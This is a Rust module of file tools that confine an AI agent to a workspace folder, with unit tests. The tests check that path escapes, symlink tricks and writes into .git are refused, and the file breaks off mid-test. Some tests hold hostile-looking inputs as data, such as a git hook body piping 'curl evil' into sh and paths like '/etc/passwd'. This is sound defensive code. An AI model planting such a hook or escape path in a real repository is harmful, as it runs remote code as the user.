//! File tools confined to a workspace folder (the user's repository).
//!
//! This module owns every file-system access an agent tool makes: reading,
//! writing, listing and searching files by paths *relative* to the workspace.
//! Confinement does not rely on string checks: all access goes through a
//! [`cap_std::fs::Dir`] handle opened on the workspace root, which resolves
//! each path beneath that directory (with `openat2(RESOLVE_BENEATH)` on Linux
//! where available, and a component-by-component `O_NOFOLLOW` walk
//! elsewhere), so `..`, absolute paths, symlinks pointing outside and
//! symlinks swapped in while a call runs cannot reach outside the root.
//! Paths with `..`, absolute paths, empty paths and NUL bytes are also
//! refused up front, as a second line of defence and for clearer errors;
//! an absolute path beneath the workspace root is taken as the relative
//! path it names (models copy the root from their prompt).
//!
//! Symlinks: symlinks whose target stays inside the workspace are followed
//! when reading, listing and as intermediate folders when writing (a
//! symlink with an *absolute* target counts as leading outside, even when
//! that target is inside the workspace: cap-std cannot tell). Writing
//! *through* a symlink as the final path component is always refused
//! ([`ToolError::Symlink`]), even if it points inside: the file is opened
//! with `O_NOFOLLOW`, so a dangling symlink can never create a file
//! elsewhere, and the check cannot be raced. Searching never follows
//! symlinks below its starting point.
//!
//! Git's own files: no write lands in a `.git` folder, named or reached
//! through a symlinked folder inside the workspace ([`Workspace::write_target`]
//! resolves the existing folders first).
//!
//! Not covered: hard links. A hard link inside the workspace to a file
//! outside it is indistinguishable from an ordinary file by path
//! resolution; agents cannot create one with these tools.

use std::io::{self, Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::path::{Component, Path, PathBuf};
use std::rc::Rc;

use cap_fs_ext::{DirExt as _, FollowSymlinks, OpenOptionsFollowExt as _, OpenOptionsSyncExt as _};
use cap_std::ambient_authority;
use cap_std::fs::{Dir, File, OpenOptions};
use rustix::io::Errno;

/// Largest file, in bytes, that [`Workspace::read_file`] returns and
/// [`Workspace::search`] looks into.
pub const FILE_LIMIT: u64 = 1024 * 1024;

/// Most matches [`Workspace::search`] returns.
pub const MATCH_LIMIT: usize = 200;

/// Longest line text, in bytes, kept in a [`Match`]; longer lines are cut at
/// a character boundary and end with `…`.
pub const MATCH_TEXT_LIMIT: usize = 500;

/// Why a workspace tool call was refused or failed. Every variant names the
/// path (as the agent gave it) so the message can go straight back to it.
#[derive(Debug, thiserror::Error)]
pub enum ToolError {
    #[error(
        "`{path}` is outside the workspace (use a relative path without `..` that stays inside it)"
    )]
    Outside { path: String },
    #[error("`{path}` does not exist in the workspace")]
    NotFound { path: String },
    #[error("`{path}` is {size} bytes, over the limit of {limit} bytes")]
    TooLarge { path: String, size: u64, limit: u64 },
    #[error("`{path}` is not a UTF-8 text file")]
    NotText { path: String },
    #[error("`{path}` is a directory")]
    IsDir { path: String },
    #[error("`{path}` is not a directory")]
    NotDir { path: String },
    #[error("`{path}` is a symbolic link; writing through symbolic links is refused")]
    Symlink { path: String },
    #[error("`{path}`: {message}")]
    Io { path: String, message: String },
    #[error(
        "`{path}` is inside a `.git` folder: agents may not write git's own files (hooks and config there run commands)"
    )]
    GitInternals { path: String },
    #[error("bad search pattern: {0}")]
    BadPattern(String),
}

/// One entry of [`Workspace::list_dir`]. Symlinks are reported as they are
/// (not followed): `is_dir` is false and `size` is the link's own size.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub name: String,
    pub is_dir: bool,
    pub size: u64,
}

/// One matching line of [`Workspace::search`]: `path` is relative to the
/// workspace root with `/` separators, `line` is 1-based.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    pub path: String,
    pub line: usize,
    pub text: String,
}

/// A handle on the workspace root through which all file tools go.
#[derive(Debug)]
pub struct Workspace {
    dir: Dir,
    root: PathBuf,
}

impl Workspace {
    /// Opens the workspace at `root` (canonicalised), which must be a
    /// directory.
    ///
    /// # Errors
    /// [`ToolError::NotFound`] if `root` does not exist, [`ToolError::Io`]
    /// if it cannot be opened as a directory.
    pub fn open(root: &Path) -> Result<Self, ToolError> {
        let shown = root.display().to_string();
        let root = std::fs::canonicalize(root).map_err(|e| map_io(&shown, &e))?;
        let dir =
            Dir::open_ambient_dir(&root, ambient_authority()).map_err(|e| map_io(&shown, &e))?;
        Ok(Self { dir, root })
    }

    /// The canonical workspace root.
    #[must_use]
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// `path` relative to the root when it is an absolute path beneath it
    /// (models copy the workspace's absolute path from the prompt); any
    /// other path as it is, for the checks that follow to judge.
    fn inside<'p>(&self, path: &'p str) -> &'p str {
        Path::new(path)
            .strip_prefix(&self.root)
            .ok()
            .and_then(Path::to_str)
            .unwrap_or(path)
    }

    /// Reads a UTF-8 text file of at most [`FILE_LIMIT`] bytes.
    ///
    /// # Errors
    /// [`ToolError::Outside`] for paths (or symlinks) leading outside the
    /// workspace, [`ToolError::NotFound`], [`ToolError::IsDir`],
    /// [`ToolError::TooLarge`], [`ToolError::NotText`], or
    /// [`ToolError::Io`] (for instance for a FIFO or device).
    pub fn read_file(&self, path: &str) -> Result<String, ToolError> {
        let rel = file_path(self.inside(path))?;
        let file =
            open_regular(&self.dir, &rel, FollowSymlinks::Yes).map_err(|e| map_io(path, &e))?;
        read_text(file, path)
    }

    /// Writes `content` to `path`, creating or truncating the file and
    /// creating missing parent folders beneath the root. Returns the number
    /// of bytes written. Refuses a final component that is a symlink (see
    /// the module docs) or anything but a regular file.
    ///
    /// # Errors
    /// [`ToolError::Outside`] for paths leading outside the workspace (also
    /// through symlinked parent folders), [`ToolError::Symlink`] if the
    /// final component is a symlink, [`ToolError::IsDir`],
    /// [`ToolError::NotDir`] if a parent is a file, or [`ToolError::Io`].
    pub fn write_file(&self, path: &str, content: &str) -> Result<u64, ToolError> {
        let rel = file_path(self.inside(path))?;
        self.write_target(path)?;
        if let Some(parent) = rel.parent().filter(|p| !p.as_os_str().is_empty()) {
            self.dir
                .create_dir_all(parent)
                .map_err(|e| self.parent_error(path, parent, &e))?;
        }
        // A friendlier early answer; the real guarantee is `O_NOFOLLOW` below.
        if let Ok(meta) = self.dir.symlink_metadata(&rel)
            && meta.is_symlink()
        {
            return Err(ToolError::Symlink {
                path: path.to_owned(),
            });
        }
        let mut options = OpenOptions::new();
        options
            .write(true)
            .create(true)
            .follow(FollowSymlinks::No)
            .nonblock(true);
        let mut file = self
            .dir
            .open_with(&rel, &options)
            .map_err(|e| map_io(path, &e))?;
        let meta = file.metadata().map_err(|e| map_io(path, &e))?;
        if meta.is_dir() {
            return Err(ToolError::IsDir {
                path: path.to_owned(),
            });
        }
        if !meta.is_file() {
            return Err(io_error(path, "not a regular file"));
        }
        // A folder swapped for a symlink into `.git` after the check above
        // (by a command running meanwhile) is caught here, on the file
        // really opened, before anything is written to it.
        if self.opened_into_git(&file) {
            return Err(ToolError::GitInternals {
                path: path.to_owned(),
            });
        }
        file.set_len(0).map_err(|e| map_io(path, &e))?;
        file.write_all(content.as_bytes())
            .map_err(|e| map_io(path, &e))?;
        file.flush().map_err(|e| map_io(path, &e))?;
        Ok(content.len() as u64)
    }

    /// The workspace-relative path (with `/`) a write to `path` lands on,
    /// the symlinks among its existing folders resolved: what the write
    /// policy rules on. A hook or a config entry written into `.git` would
    /// run as the user the next time an allowed git command runs, so a
    /// path there is refused, whether named (`.git/hooks/x`) or reached
    /// through a planted symlink (`g -> .git`, then `g/hooks/x`).
    ///
    /// # Errors
    /// [`ToolError::GitInternals`] for a path into a `.git` folder,
    /// [`ToolError::Outside`] for one whose folders lead outside.
    pub fn write_target(&self, path: &str) -> Result<String, ToolError> {
        let rel = file_path(self.inside(path))?;
        let into_git = |p: &Path| {
            p.components()
                .any(|c| c.as_os_str().eq_ignore_ascii_case(".git"))
        };
        let refused = || ToolError::GitInternals {
            path: path.to_owned(),
        };
        if into_git(&rel) {
            return Err(refused());
        }
        let Some(name) = rel.file_name() else {
            return Ok(slash_path(&rel));
        };
        // The deepest folder on the way that exists, as the kernel
        // resolves it; the folders still to be made go on top.
        let mut existing = rel.parent().map(Path::to_path_buf).unwrap_or_default();
        let mut missing = Vec::new();
        loop {
            if let Ok(real) = std::fs::canonicalize(self.root.join(&existing)) {
                let Ok(inside) = real.strip_prefix(&self.root) else {
                    return Err(ToolError::Outside {
                        path: path.to_owned(),
                    });
                };
                let mut target = inside.to_path_buf();
                target.extend(missing.iter().rev());
                target.push(name);
                if into_git(&target) {
                    return Err(refused());
                }
                return Ok(slash_path(&target));
            }
            match existing.file_name() {
                Some(folder) => {
                    missing.push(folder.to_owned());
                    existing.pop();
                }
                None => return Ok(slash_path(&rel)),
            }
        }
    }

    /// Whether the open `file` is inside a `.git` folder of the workspace,
    /// as the kernel names it (`/proc/self/fd`); false where it cannot say.
    fn opened_into_git(&self, file: &File) -> bool {
        let link = format!("/proc/self/fd/{}", file.as_raw_fd());
        std::fs::read_link(link).is_ok_and(|real| {
            real.strip_prefix(&self.root).is_ok_and(|inside| {
                inside
                    .components()
                    .any(|c| c.as_os_str().eq_ignore_ascii_case(".git"))
            })
        })
    }

    /// Lists a folder (`""` or `"."` is the root), sorted by name.
    ///
    /// # Errors
    /// [`ToolError::Outside`], [`ToolError::NotFound`],
    /// [`ToolError::NotDir`] or [`ToolError::Io`].
    pub fn list_dir(&self, path: &str) -> Result<Vec<Entry>, ToolError> {
        let rel = dir_path(self.inside(path))?;
        let sub = self.open_dir(&rel, path)?;
        let mut entries = Vec::new();
        for entry in sub.entries().map_err(|e| map_io(path, &e))? {
            let entry = entry.map_err(|e| map_io(path, &e))?;
            let name = entry.file_name().to_string_lossy().into_owned();
            let file_type = entry.file_type().map_err(|e| map_io(path, &e))?;
            let is_dir = file_type.is_dir();
            let size = if is_dir {
                0
            } else {
                entry.metadata().map_or(0, |m| m.len())
            };
            entries.push(Entry { name, is_dir, size });
        }
        entries.sort_by(|a, b| a.name.cmp(&b.name));
        Ok(entries)
    }

    /// Case-sensitive plain substring search through the text files beneath
    /// `path` (`None`, `""` or `"."` = the whole workspace; a file searches
    /// just that file). Skips `.git` folders, symlinks, files over
    /// [`FILE_LIMIT`] and files that are not UTF-8. Returns at most
    /// [`MATCH_LIMIT`] matches, in path order then line order.
    ///
    /// # Errors
    /// [`ToolError::BadPattern`] for an empty pattern or one with a line
    /// break; [`ToolError::Outside`], [`ToolError::NotFound`] or
    /// [`ToolError::Io`] for a bad starting path, and the
    /// [`Workspace::read_file`] errors when it names a single file. Files
    /// that cannot be read during the walk are skipped, not reported.
    pub fn search(&self, pattern: &str, path: Option<&str>) -> Result<Vec<Match>, ToolError> {
        if pattern.is_empty() {
            return Err(ToolError::BadPattern("the pattern is empty".to_owned()));
        }
        if pattern.contains('\n') || pattern.contains('\r') {
            return Err(ToolError::BadPattern(
                "the pattern contains a line break; matches are found within single lines"
                    .to_owned(),
            ));
        }
        let shown = path.unwrap_or("");
        let rel = dir_path(self.inside(shown))?;
        let prefix = slash_path(&rel);
        let mut matches = Vec::new();

        let meta = if rel.as_os_str().is_empty() {
            None
        } else {
            Some(self.dir.metadata(&rel).map_err(|e| map_io(shown, &e))?)
        };
        if let Some(meta) = meta.filter(|m| !m.is_dir()) {
            if !meta.is_file() {
                return Err(io_error(shown, "not a regular file or directory"));
            }
            let file = open_regular(&self.dir, &rel, FollowSymlinks::Yes)
                .map_err(|e| map_io(shown, &e))?;
            let text = read_text(file, shown)?;
            search_text(&text, pattern, &prefix, &mut matches);
            return Ok(matches);
        }

        let start = Rc::new(self.open_dir(&rel, shown)?);
        let mut stack = Vec::new();
        push_children(&start, &prefix, &mut stack).map_err(|e| map_io(shown, &e))?;
        while let Some(item) = stack.pop() {
            if matches.len() >= MATCH_LIMIT {
                break;
            }
            // Entries that vanish or change while we walk are skipped: the
            // search is best effort, the confinement is not.
            if item.is_dir {
                if let Ok(sub) = item.parent.open_dir_nofollow(&item.name) {
                    let _ = push_children(&Rc::new(sub), &item.rel, &mut stack);
                }
            } else if let Ok(file) =
                open_regular(&item.parent, Path::new(&item.name), FollowSymlinks::No)
                && let Ok(text) = read_text(file, &item.rel)
            {
                search_text(&text, pattern, &item.rel, &mut matches);
            }
        }
        matches.truncate(MATCH_LIMIT);
        Ok(matches)
    }

    /// Explains why the parent folders of `path` could not be created
    /// (`create_dir_all` says "exists" for a symlink leading outside too).
    fn parent_error(&self, path: &str, parent: &Path, error: &io::Error) -> ToolError {
        match self.dir.metadata(parent) {
            Err(e) => {
                let why = map_io(path, &e);
                if matches!(why, ToolError::Outside { .. }) {
                    why
                } else {
                    map_io(path, error)
                }
            }
            Ok(meta) if !meta.is_dir() => ToolError::NotDir {
                path: slash_path(parent),
            },
            Ok(_) => map_io(path, error),
        }
    }

    fn open_dir(&self, rel: &Path, shown: &str) -> Result<Dir, ToolError> {
        if rel.as_os_str().is_empty() {
            return self.dir.try_clone().map_err(|e| map_io(shown, &e));
        }
        self.dir
            .open_dir(rel)
            .map_err(|e| match Errno::from_io_error(&e) {
                Some(Errno::NOTDIR) => ToolError::NotDir {
                    path: shown.to_owned(),
                },
                _ => map_io(shown, &e),
            })
    }
}

/// A pending step of the search walk: an entry of `parent`.
struct WalkItem {
    parent: Rc<Dir>,
    name: std::ffi::OsString,
    rel: String,
    is_dir: bool,
}

/// Pushes the searchable entries of `dir` onto `stack` in reverse name order
/// (so they pop in name order), skipping symlinks, `.git` and special files.
fn push_children(dir: &Rc<Dir>, prefix: &str, stack: &mut Vec<WalkItem>) -> io::Result<()> {
    let mut children = Vec::new();
    for entry in dir.entries()? {
        let Ok(entry) = entry else { continue };
        let Ok(file_type) = entry.file_type() else {
            continue;
        };
        let name = entry.file_name();
        let is_dir = file_type.is_dir();
        if !(is_dir || file_type.is_file()) || (is_dir && name == ".git") {
            continue;
        }
        let shown = name.to_string_lossy();
        let rel = if prefix.is_empty() {
            shown.into_owned()
        } else {
            format!("{prefix}/{shown}")
        };
        children.push(WalkItem {
            parent: Rc::clone(dir),
            name,
            rel,
            is_dir,
        });
    }
    children.sort_by(|a, b| b.name.cmp(&a.name));
    stack.extend(children);
    Ok(())
}

fn search_text(text: &str, pattern: &str, rel: &str, matches: &mut Vec<Match>) {
    for (index, line) in text.lines().enumerate() {
        if matches.len() >= MATCH_LIMIT {
            return;
        }
        if line.contains(pattern) {
            matches.push(Match {
                path: rel.to_owned(),
                line: index + 1,
                text: clip_line(line),
            });
        }
    }
}

fn clip_line(line: &str) -> String {
    if line.len() <= MATCH_TEXT_LIMIT {
        return line.to_owned();
    }
    let mut end = MATCH_TEXT_LIMIT;
    while !line.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &line[..end])
}

/// Opens `rel` beneath `dir` for reading without blocking on FIFOs, and
/// makes sure it is a regular file.
fn open_regular(dir: &Dir, rel: &Path, follow: FollowSymlinks) -> io::Result<File> {
    let mut options = OpenOptions::new();
    options.read(true).follow(follow).nonblock(true);
    let file = dir.open_with(rel, &options)?;
    let meta = file.metadata()?;
    if meta.is_dir() {
        return Err(Errno::ISDIR.into());
    }
    if !meta.is_file() {
        return Err(io::Error::other("not a regular file"));
    }
    Ok(file)
}

/// Reads an opened regular file as UTF-8 text of at most [`FILE_LIMIT`]
/// bytes.
fn read_text(file: File, path: &str) -> Result<String, ToolError> {
    let size = file.metadata().map_err(|e| map_io(path, &e))?.len();
    if size > FILE_LIMIT {
        return Err(too_large(path, size));
    }
    let mut bytes = Vec::new();
    file.take(FILE_LIMIT + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| map_io(path, &e))?;
    if bytes.len() as u64 > FILE_LIMIT {
        // The file grew after we looked at its size.
        return Err(too_large(path, bytes.len() as u64));
    }
    String::from_utf8(bytes).map_err(|_| ToolError::NotText {
        path: path.to_owned(),
    })
}

fn too_large(path: &str, size: u64) -> ToolError {
    ToolError::TooLarge {
        path: path.to_owned(),
        size,
        limit: FILE_LIMIT,
    }
}

fn io_error(path: &str, message: &str) -> ToolError {
    ToolError::Io {
        path: path.to_owned(),
        message: message.to_owned(),
    }
}

/// Turns an I/O error into a [`ToolError`] naming `path`.
fn map_io(path: &str, error: &io::Error) -> ToolError {
    let path = path.to_owned();
    // cap-std reports an escape attempt as a `PermissionDenied` error it made
    // up itself (no OS error code); a real `EACCES` carries its code.
    if error.kind() == io::ErrorKind::PermissionDenied && error.raw_os_error().is_none() {
        return ToolError::Outside { path };
    }
    match Errno::from_io_error(error) {
        Some(Errno::NOENT | Errno::NOTDIR) => ToolError::NotFound { path },
        Some(Errno::ISDIR) => ToolError::IsDir { path },
        Some(Errno::LOOP) => ToolError::Symlink { path },
        Some(Errno::XDEV) => ToolError::Outside { path },
        _ => ToolError::Io {
            path,
            message: error.to_string(),
        },
    }
}

/// Validates a relative path and drops `.` components. Refuses NUL bytes,
/// absolute paths and any `..` component.
fn relative(path: &str) -> Result<PathBuf, ToolError> {
    let outside = || ToolError::Outside {
        path: path.to_owned(),
    };
    if path.contains('\0') {
        return Err(outside());
    }
    let mut rel = PathBuf::new();
    for component in Path::new(path).components() {
        match component {
            Component::Normal(part) => rel.push(part),
            Component::CurDir => {}
            Component::ParentDir | Component::RootDir | Component::Prefix(_) => {
                return Err(outside());
            }
        }
    }
    Ok(rel)
}

/// A path naming a file: like [`relative`], and it must not be empty or the
/// root itself. A trailing `/` is kept so that it fails as "is a directory".
fn file_path(path: &str) -> Result<PathBuf, ToolError> {
    let mut rel = relative(path)?;
    if rel.as_os_str().is_empty() {
        return Err(ToolError::Outside {
            path: path.to_owned(),
        });
    }
    if path.ends_with('/') {
        rel.push("");
    }
    Ok(rel)
}

/// A path naming a folder: like [`relative`]; empty means the root.
fn dir_path(path: &str) -> Result<PathBuf, ToolError> {
    relative(path)
}

/// A relative path with `/` separators.
fn slash_path(rel: &Path) -> String {
    rel.components()
        .map(|c| c.as_os_str().to_string_lossy())
        .collect::<Vec<_>>()
        .join("/")
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;
    use std::os::unix::fs::symlink;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

    /// A temporary base folder holding `ws/` (the workspace) and `outside/`
    /// (with `secret.txt`), side by side.
    struct Fixture {
        _base: tempfile::TempDir,
        ws_path: PathBuf,
        outside: PathBuf,
        ws: Workspace,
    }

    fn fixture() -> Fixture {
        let base = tempfile::tempdir().unwrap();
        let ws_path = base.path().join("ws");
        let outside = base.path().join("outside");
        std::fs::create_dir(&ws_path).unwrap();
        std::fs::create_dir(&outside).unwrap();
        std::fs::write(outside.join("secret.txt"), "secret\n").unwrap();
        let ws = Workspace::open(&ws_path).unwrap();
        Fixture {
            _base: base,
            ws_path,
            outside,
            ws,
        }
    }

    /// Everything under `dir`: relative path -> file contents, symlink
    /// target or folder marker.
    fn snapshot(dir: &Path) -> BTreeMap<PathBuf, String> {
        fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, String>) {
            for entry in std::fs::read_dir(dir).unwrap() {
                let entry = entry.unwrap();
                let path = entry.path();
                let rel = path.strip_prefix(root).unwrap().to_owned();
                let file_type = entry.file_type().unwrap();
                if file_type.is_symlink() {
                    let target = std::fs::read_link(&path).unwrap();
                    out.insert(rel, format!("-> {}", target.display()));
                } else if file_type.is_dir() {
                    out.insert(rel, "<dir>".to_owned());
                    walk(root, &path, out);
                } else {
                    out.insert(
                        rel,
                        String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned(),
                    );
                }
            }
        }
        let mut out = BTreeMap::new();
        walk(dir, dir, &mut out);
        out
    }

    /// Runs `f`, expects it to fail, and checks that nothing outside the
    /// workspace changed meanwhile.
    fn refused<T: std::fmt::Debug>(
        fx: &Fixture,
        f: impl FnOnce(&Workspace) -> Result<T, ToolError>,
    ) -> ToolError {
        let before = snapshot(&fx.outside);
        let result = f(&fx.ws);
        assert_eq!(
            snapshot(&fx.outside),
            before,
            "something outside the workspace changed"
        );
        match result {
            Ok(value) => panic!("expected a refusal, got {value:?}"),
            Err(e) => e,
        }
    }

    #[test]
    fn write_then_read_round_trips_and_creates_parents() {
        let fx = fixture();
        assert_eq!(fx.ws.write_file("a/b/c.txt", "héllo\n").unwrap(), 7);
        assert_eq!(
            std::fs::read_to_string(fx.ws_path.join("a/b/c.txt")).unwrap(),
            "héllo\n"
        );
        assert_eq!(fx.ws.read_file("a/b/c.txt").unwrap(), "héllo\n");
        assert_eq!(fx.ws.read_file("./a/./b/c.txt").unwrap(), "héllo\n");
        // Overwriting truncates.
        fx.ws.write_file("a/b/c.txt", "x").unwrap();
        assert_eq!(fx.ws.read_file("a/b/c.txt").unwrap(), "x");
        assert_eq!(fx.ws.root(), std::fs::canonicalize(&fx.ws_path).unwrap());
    }

    #[test]
    fn an_absolute_path_beneath_the_root_is_the_relative_path_it_names() {
        let fx = fixture();
        let root = fx.ws.root().to_owned();
        let inside = root.join("a/b.txt");
        fx.ws.write_file(inside.to_str().unwrap(), "x").unwrap();
        assert_eq!(fx.ws.read_file("a/b.txt").unwrap(), "x");
        assert_eq!(fx.ws.read_file(inside.to_str().unwrap()).unwrap(), "x");
        let listed = fx.ws.list_dir(root.to_str().unwrap()).unwrap();
        assert_eq!(listed.len(), 1, "the root itself lists");
        // Anything else absolute stays refused, `..` after the root too.
        let secret = fx.outside.join("secret.txt");
        let escape = format!("{}/../outside/secret.txt", root.display());
        for path in [secret.to_str().unwrap(), escape.as_str()] {
            let err = refused(&fx, |ws| ws.read_file(path));
            assert!(matches!(err, ToolError::Outside { .. }), "{path}: {err:?}");
        }
    }

    #[test]
    fn read_refuses_large_binary_missing_and_directories() {
        let fx = fixture();
        std::fs::write(fx.ws_path.join("big.txt"), vec![b'a'; 1024 * 1024 + 1]).unwrap();
        std::fs::write(fx.ws_path.join("exact.txt"), vec![b'a'; 1024 * 1024]).unwrap();
        std::fs::write(fx.ws_path.join("bin"), [0xff, 0xfe, 0x00]).unwrap();
        std::fs::create_dir(fx.ws_path.join("sub")).unwrap();
        assert!(matches!(
            fx.ws.read_file("big.txt"),
            Err(ToolError::TooLarge {
                size: 1_048_577,
                limit: 1_048_576,
                ..
            })
        ));
        assert_eq!(fx.ws.read_file("exact.txt").unwrap().len(), 1024 * 1024);
        assert!(matches!(
            fx.ws.read_file("bin"),
            Err(ToolError::NotText { .. })
        ));
        assert!(matches!(
            fx.ws.read_file("nope"),
            Err(ToolError::NotFound { .. })
        ));
        assert!(matches!(
            fx.ws.read_file("sub"),
            Err(ToolError::IsDir { .. })
        ));
        assert!(matches!(
            fx.ws.write_file("sub", "x"),
            Err(ToolError::IsDir { .. })
        ));
        assert!(matches!(
            fx.ws.write_file("sub/", "x"),
            Err(ToolError::IsDir { .. })
        ));
        std::fs::write(fx.ws_path.join("sub/file"), "x").unwrap();
        let e = fx.ws.write_file("sub/file/deeper.txt", "x").unwrap_err();
        assert!(
            matches!(&e, ToolError::NotDir { path } if path == "sub/file"),
            "{e}"
        );
        let message = fx.ws.read_file("nope").unwrap_err().to_string();
        assert!(message.contains("`nope`"), "{message}");
    }

    #[test]
    fn special_files_are_refused_without_blocking() {
        let fx = fixture();
        let fifo = fx.ws_path.join("fifo");
        let status = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap();
        assert!(status.success());
        // Opening a FIFO without `O_NONBLOCK` would hang these calls.
        assert!(matches!(fx.ws.read_file("fifo"), Err(ToolError::Io { .. })));
        assert!(fx.ws.write_file("fifo", "x").is_err());
        assert!(matches!(
            fx.ws.search("x", Some("fifo")),
            Err(ToolError::Io { .. })
        ));
        assert!(fx.ws.search("x", None).unwrap().is_empty());
    }

    #[test]
    fn list_dir_sorts_and_reports_kinds() {
        let fx = fixture();
        fx.ws.write_file("b.txt", "12345").unwrap();
        fx.ws.write_file("a/inner.txt", "x").unwrap();
        symlink("b.txt", fx.ws_path.join("c-link")).unwrap();
        let entries = fx.ws.list_dir("").unwrap();
        let names: Vec<_> = entries.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["a", "b.txt", "c-link"]);
        assert!(entries[0].is_dir);
        assert_eq!(
            entries[1],
            Entry {
                name: "b.txt".into(),
                is_dir: false,
                size: 5
            }
        );
        assert!(!entries[2].is_dir);
        assert_eq!(fx.ws.list_dir(".").unwrap(), entries);
        assert_eq!(
            fx.ws.list_dir("a").unwrap(),
            [Entry {
                name: "inner.txt".into(),
                is_dir: false,
                size: 1
            }]
        );
        assert!(matches!(
            fx.ws.list_dir("b.txt"),
            Err(ToolError::NotDir { .. })
        ));
        assert!(matches!(
            fx.ws.list_dir("missing"),
            Err(ToolError::NotFound { .. })
        ));
    }

    #[test]
    fn git_internals_are_never_written() {
        let fx = fixture();
        for path in [
            ".git/hooks/pre-commit",
            ".GIT/config",
            "vendor/lib/.git/hooks/post-checkout",
        ] {
            let err = fx
                .ws
                .write_file(path, "#!/bin/sh\ncurl evil | sh\n")
                .unwrap_err();
            assert!(
                matches!(err, ToolError::GitInternals { .. }),
                "{path}: {err}"
            );
        }
        assert!(!fx.ws_path.join(".git/hooks/pre-commit").exists());
        fx.ws.write_file("docs/.gitignore", "x\n").unwrap();
    }

    #[test]
    fn a_symlink_into_git_is_no_way_in() {
        let fx = fixture();
        std::fs::create_dir_all(fx.ws_path.join(".git/hooks")).unwrap();
        symlink(".git", fx.ws_path.join("g")).unwrap();
        symlink(".git/hooks", fx.ws_path.join("h")).unwrap();
        std::fs::create_dir(fx.ws_path.join("d")).unwrap();
        symlink("../.git", fx.ws_path.join("d/up")).unwrap();
        for path in [
            "g/hooks/pre-commit",
            "g/config",
            "h/post-checkout",
            "d/up/new/x",
            "g/new/dir/file",
        ] {
            let err = fx.ws.write_file(path, "#!/bin/sh\ntouch P\n").unwrap_err();
            assert!(
                matches!(err, ToolError::GitInternals { .. }),
                "{path}: {err}"
            );
            assert!(
                matches!(
                    fx.ws.write_target(path),
                    Err(ToolError::GitInternals { .. })
                ),
                "{path}"
            );
        }
        assert!(!fx.ws_path.join(".git/hooks/pre-commit").exists());
        assert!(!fx.ws_path.join(".git/new").exists());
        symlink("src", fx.ws_path.join("s")).unwrap();
        std::fs::create_dir(fx.ws_path.join("src")).unwrap();
        assert_eq!(fx.ws.write_target("s/a/b.go").unwrap(), "src/a/b.go");
        assert_eq!(fx.ws.write_target("./x.go").unwrap(), "x.go");
        // The last check, on the file really opened, catches a folder
        // swapped for a symlink after the first.
        std::fs::write(fx.ws_path.join(".git/config"), "x").unwrap();
        std::fs::write(fx.ws_path.join("src/ok.go"), "x").unwrap();
        assert!(fx.ws.opened_into_git(&fx.ws.dir.open("g/config").unwrap()));
        assert!(!fx.ws.opened_into_git(&fx.ws.dir.open("s/ok.go").unwrap()));
    }

    #[test]
    fn search_finds_lines_and_skips_git_binary_large_and_symlinks() {
        let fx = fixture();
        fx.ws
            .write_file("src/main.rs", "fn main() {\n    needle();\n}\n")
            .unwrap();
        fx.ws
            .write_file("src/deep/lib.rs", "// needle here\r\nno\nNEEDLE\n")
            .unwrap();
        fx.ws.write_file("a.txt", "needle\n").unwrap();
        std::fs::create_dir(fx.ws_path.join(".git")).unwrap();
        std::fs::write(fx.ws_path.join(".git/config"), "needle\n").unwrap();
        std::fs::write(fx.ws_path.join("bin"), b"needle\xff\n").unwrap();
        let mut big = "needle\n".repeat(200_000);
        big.truncate(1024 * 1024 + 10);
        std::fs::write(fx.ws_path.join("big.txt"), big).unwrap();
        symlink(fx.outside.join("secret.txt"), fx.ws_path.join("link.txt")).unwrap();
        symlink("src", fx.ws_path.join("src-link")).unwrap();
        std::fs::write(fx.outside.join("secret.txt"), "needle\n").unwrap();

        let found = fx.ws.search("needle", None).unwrap();
        let got: Vec<_> = found
            .iter()
            .map(|m| (m.path.as_str(), m.line, m.text.as_str()))
            .collect();
        assert_eq!(
            got,
            [
                ("a.txt", 1, "needle"),
                ("src/deep/lib.rs", 1, "// needle here"),
                ("src/main.rs", 2, "    needle();"),
            ]
        );
        let scoped = fx.ws.search("needle", Some("src/deep")).unwrap();
        assert_eq!(scoped.len(), 1);
        assert_eq!(scoped[0].path, "src/deep/lib.rs");
        let single = fx.ws.search("needle", Some("src/main.rs")).unwrap();
        assert_eq!(single[0].path, "src/main.rs");
        assert!(matches!(
            fx.ws.search("", None),
            Err(ToolError::BadPattern(_))
        ));
        assert!(matches!(
            fx.ws.search("a\nb", None),
            Err(ToolError::BadPattern(_))
        ));
        assert!(matches!(
            fx.ws.search("x", Some("../outside")),
            Err(ToolError::Outside { .. })
        ));
        assert!(matches!(
            fx.ws.search("x", Some("link.txt")),
            Err(ToolError::Outside { .. })
        ));
    }

    #[test]
    fn search_stops_at_the_match_limit_and_clips_long_lines() {
        let fx = fixture();
        fx.ws.write_file("many.txt", &"hit\n".repeat(500)).unwrap();
        fx.ws
            .write_file("z-long.txt", &format!("hit{}\n", "é".repeat(400)))
            .unwrap();
        let found = fx.ws.search("hit", None).unwrap();
        assert_eq!(found.len(), MATCH_LIMIT);
        assert!(found.iter().all(|m| m.path == "many.txt"));
        let long = fx.ws.search("hit", Some("z-long.txt")).unwrap();
        assert!(long[0].text.len() <= MATCH_TEXT_LIMIT + '…'.len_utf8());
        assert!(long[0].text.ends_with('…'));
    }

    #[test]
    fn lexical_escapes_are_refused() {
        let fx = fixture();
        for path in [
            "../x",
            "a/../../x",
            "/etc/passwd",
            "a/../b",
            "",
            ".",
            "./",
            "a\0b",
            "../outside/secret.txt",
        ] {
            let e = refused(&fx, |ws| ws.read_file(path));
            assert!(matches!(e, ToolError::Outside { .. }), "{path:?}: {e}");
            let e = refused(&fx, |ws| ws.write_file(path, "pwned"));
            assert!(matches!(e, ToolError::Outside { .. }), "{path:?}: {e}");
        }
        for path in ["..", "../outside", "/tmp", "a/../.."] {
            let e = refused(&fx, |ws| ws.list_dir(path));
            assert!(matches!(e, ToolError::Outside { .. }), "{path:?}: {e}");
        }
        assert!(
